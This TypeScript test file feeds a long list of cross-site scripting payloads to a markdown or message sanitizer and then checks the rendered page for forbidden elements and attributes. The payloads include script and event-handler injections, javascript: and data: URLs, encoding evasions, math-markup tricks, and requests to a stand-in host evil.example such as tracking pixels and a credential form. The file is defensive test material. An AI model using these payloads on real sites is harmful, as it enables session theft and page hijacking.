/**
 * Texts that try to get a script, a request or a foreign element into the page. For the tests.
 */

const html: readonly string[] = [
  '<script>alert(1)</script>', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/src=data:,alert(1)>', '<script\n>alert(1)</script\n>', '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>', '<svg onload="alert(1)">', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(1)>', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a>', '<svg><foreignObject><body onload=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
  '<img src=x onerror=alert(1)>', '<img src="x" onerror="alert(1)" />', '<img src=`x` onerror=alert(1)>', "<img src='x'onerror='alert(1)'>",
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>', '<img src="javascript:alert(1)">', '<img srcset="https://evil.example/x 1x">',
  '<img src=https://evil.example/pixel.png>', '<image src=x onerror=alert(1)>', '<img/src/onerror=alert(1)>', '<img\tsrc=x\tonerror=alert(1)>',
  '<picture><source srcset=https://evil.example/x><img></picture>', '<video src=x onerror=alert(1)>', '<video><source onerror=alert(1)></video>',
  '<video poster=javascript:alert(1)></video>', '<audio src=x onerror=alert(1)>', '<track src=https://evil.example/x>',
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>">', '<iframe src=https://evil.example>',
  '<frameset onload=alert(1)>', '<frame src=javascript:alert(1)>', '<object data="javascript:alert(1)"></object>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', '<embed src="javascript:alert(1)">',
  '<embed code=https://evil.example/x.swf>', '<applet code=x>', '<body onload=alert(1)>', '<body background="javascript:alert(1)">',
  '<html onmouseover=alert(1)>', '<base href="https://evil.example/">', '<link rel=stylesheet href=https://evil.example/x.css>',
  '<link rel=import href=data:text/html,x>', '<link rel=preload as=image href=https://evil.example/x>', '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<meta http-equiv="Set-Cookie" content="a=b">', '<style>@import "https://evil.example/x.css"</style>', '<style>*{background:url(https://evil.example/x)}</style>',
  '<style><img src=x onerror=alert(1)></style>', '<div style="background:url(javascript:alert(1))">x</div>', '<div style="position:fixed;inset:0">cover</div>',
  '<div style=width:expression(alert(1))>', '<p style="behavior:url(x.htc)">', '<div onclick=alert(1)>x</div>', '<div onmouseover="alert(1)">x</div>',
  '<div id=x tabindex=1 onfocus=alert(1) autofocus>', '<input autofocus onfocus=alert(1)>', '<input type=image src=x onerror=alert(1)>',
  '<select autofocus onfocus=alert(1)>', '<textarea autofocus onfocus=alert(1)>', '<keygen autofocus onfocus=alert(1)>',
  '<button formaction=javascript:alert(1)>x</button>', '<button onclick=alert(1)>x</button>', '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form action=https://evil.example><input name=password></form>', '<isindex action=javascript:alert(1)>', '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>', '<bgsound src=javascript:alert(1)>', '<table background="javascript:alert(1)">', '<td background=https://evil.example/x>',
  '<a href="javascript:alert(1)">x</a>', '<a href=" &#14; javascript:alert(1)">x</a>', '<a href="jav&#x09;ascript:alert(1)">x</a>', '<a onmouseover=alert(1)>x</a>',
  '<a href="https://evil.example" ping="https://evil.example/ping">x</a>', '<area href=javascript:alert(1)>', '<portal src=https://evil.example>',
  '<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)', '<!--<img src="--><img src=x onerror=alert(1)//">', '<!-- --!><script>alert(1)</script>', '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>', '<!DOCTYPE html><script>alert(1)</script>', '<x onclick=alert(1)>x', '<custom-element onclick=alert(1)>x</custom-element>',
  '<br onmouseover=alert(1)>', '<br/onload=alert(1)>', '<BR SIZE="&{alert(1)}">', '<b/onclick=alert(1)>x</b>', '</p><script>alert(1)</script><p>', '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>", '`"\'><img src=xxx:x onerror=alert(1)>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\<script>alert(1)\\</script>', '<script>\n\nalert(1)\n\n</script>', '<div>\n\n<script>alert(1)</script>\n\n</div>', '<a\nhref="javascript:alert(1)"\n>x</a>',
  '＜script＞alert(1)＜/script＞', '<\u0000script>alert(1)</script>', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}',
];

const addresses: readonly string[] = [
  'javascript:alert(1)', 'JAVASCRIPT:alert(1)', 'JaVaScRiPt:alert`1`', 'javascript://%0aalert(1)', 'javascript://example.com/%0Aalert(1)',
  'javascript&colon;alert(1)', 'javascript&#58;alert(1)', 'javascript&#x3A;alert(1)', '&#106;avascript:alert(1)', '&#x6A;&#x61;vascript:alert(1)',
  '&#0000106avascript:alert(1)', 'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)', 'java&#10;script:alert(1)', 'java%0ascript:alert(1)',
  'java\\script:alert(1)', '\\javascript:alert(1)', '\u0001javascript:alert(1)', '\u00a0javascript:alert(1)', '\u200bjavascript:alert(1)',
  'javascript\u0000:alert(1)', 'jav\u0009ascript:alert(1)', 'vbscript:msgbox(1)', 'VBScript:msgbox(1)', 'livescript:alert(1)', 'mocha:alert(1)',
  'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'DATA:text/html,x', 'data:image/svg+xml,<svg/onload=alert(1)>',
  'data:image/png;base64,AAAA', 'data:,alert(1)', 'file:///etc/passwd', 'blob:null/1', 'filesystem:https://evil.example/x', 'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)', 'jar:javascript:alert(1)', 'about:blank', 'intent://x#Intent;end', 'chrome://settings', 'ws://evil.example', 'ftp://evil.example/x',
  '//evil.example/x', '/api/sessions', '..//evil.example', '\\\\evil.example\\x', 'https:\\\\user@evil.example', 'https://user:pass@evil.example', 'x:y', '://', 'http://',
];

/** One address in every place where markdown takes one. */
function placed(address: string): string[] {
  return [
    `[x](${address})`,
    `[x](<${address}> "title")`,
    `![x](${address})`,
    `<${address}>`,
    `[x][r]\n\n[r]: ${address}`,
    `[![x](${address})](${address})`,
  ];
}

const others: readonly string[] = [
  '[a](https://example.com "onmouseover=alert(1)")', '[a](https://example.com "\\" onmouseover=\\"alert(1)")', '[a](https://example.com" onclick="alert(1))',
  '[<script>alert(1)</script>](https://example.com)', '[<img src=x onerror=alert(1)>](https://example.com)', '![" onerror="alert(1)](https://example.com/x.png)',
  '![a](https://evil.example/pixel.png)', '![a](https://evil.example/x.png "t\\" onload=\\"alert(1)")', '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```', '```"><script>alert(1)</script>\nx\n```', '```js onload=alert(1)\nx\n```', '```<img src=x onerror=alert(1)>\n<img src=x onerror=alert(1)>\n```',
  '```__proto__\nx\n```', '```constructor\nx\n```', '~~~xml\n<a href="javascript:alert(1)">\n~~~', '# <script>alert(1)</script>', '> <iframe src=javascript:alert(1)>',
  '- <img src=x onerror=alert(1)>', '- [ ] <img src=x onerror=alert(1)>', '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
  '**<svg onload=alert(1)>**', '~~<svg onload=alert(1)>~~', '$\\href{javascript:alert(1)}{x}$', '$\\url{javascript:alert(1)}$', '$\\includegraphics{https://evil.example/x.png}$',
  '$\\htmlStyle{position:fixed}{x}$', '$\\htmlClass{x}{y}$', '$\\htmlId{x}{y}$', '$\\htmlData{a=b}{x}$', '$$\\unicode{<script>alert(1)</script>}$$', '$<script>alert(1)</script>$',
  '$$\\text{<img src=x onerror=alert(1)>}$$', '$\\def\\a{\\a\\a}\\a$', '[__proto__]: javascript:alert(1)\n\n[__proto__]', '[constructor][toString]', '[a]: javascript:alert(1) "t"\n\n[a] and ![a]',
  'www.evil.example"onmouseover="alert(1)', 'https://example.com/"onmouseover="alert(1)', 'http://a.b/<script>alert(1)</script>', 'a@b.example"><script>alert(1)</script>',
  '<https://example.com/"onclick="alert(1)>', '<mailto:a@b.example?body=<script>alert(1)</script>>', '[a](mailto:a@b.example"onclick="alert(1))', '[x](javascript:alert(1)',
];

export const attacks: readonly string[] = [...html, ...addresses.flatMap(placed), ...others];

const foreign =
  'script, iframe, object, embed, style, form, link, meta, base, img, picture, video, audio, source, track, input, ' +
  'textarea, select, template, frame, frameset, applet, area, portal, marquee, details, foreignObject, use, set, animate';
const loading = ['src', 'srcset', 'srcdoc', 'data', 'action', 'formaction', 'poster', 'background', 'ping', 'xlink:href'];

/** What in `root` an author of a message must not be able to put there. */
export function faults(root: ParentNode): string[] {
  const found = [...root.querySelectorAll(foreign)].map((element) => `<${element.localName}>`);
  for (const element of root.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      const drawn = element.closest('.katex') !== null;
      if (/^on/i.test(name) || loading.includes(name)) found.push(`${element.localName}[${name}="${value}"]`);
      if (name === 'style' && !drawn) found.push(`${element.localName}[style]`);
      if (name === 'href' && !/^(?:https?:\/\/[^@]+|mailto:.*)$/.test(value)) found.push(`${element.localName}[href="${value}"]`);
      if (name === 'id') found.push(`${element.localName}[id="${value}"]`);
    }
    const inward = element.localName === 'a' && element.getAttribute('rel') !== 'noopener noreferrer nofollow';
    if (inward) found.push('a link that is not marked as leading out');
    if (element.localName === 'button' && !element.closest('.md-code-head')) found.push('<button>');
  }
  return found;
}
